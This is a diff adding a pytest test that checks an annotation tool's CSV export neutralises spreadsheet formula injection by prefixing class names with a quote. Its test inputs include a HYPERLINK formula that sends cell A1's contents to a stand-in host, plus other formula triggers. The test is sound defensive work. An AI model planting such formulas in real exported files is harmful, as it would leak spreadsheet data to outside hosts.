@@ -48,3 +48,14 @@ def test_formats_for_objects_are_refused(store, tmp_path, name):
     assert refused.value.code == "wrong_format"
     assert "csv" in str(refused.value)
     assert not (tmp_path / "out").exists()
+
+
+FORMULA = '=HYPERLINK("http://a.b/?"&A1)'
+
+
+@pytest.mark.parametrize("name", [FORMULA, "+1", "-1", "@SUM(A1)", "\uff1d1+1"])
+def test_what_a_spreadsheet_would_run_is_text(store, tmp_path, name):
+    store.classes.update(store.classes.rows()[0].id, name=name)
+    export_annotations(store, "csv", tmp_path / "labels.csv")
+    with (tmp_path / "labels.csv").open(encoding="utf-8-sig", newline="") as file:
+        assert f"'{name}" in {row["class"] for row in csv.DictReader(file)}
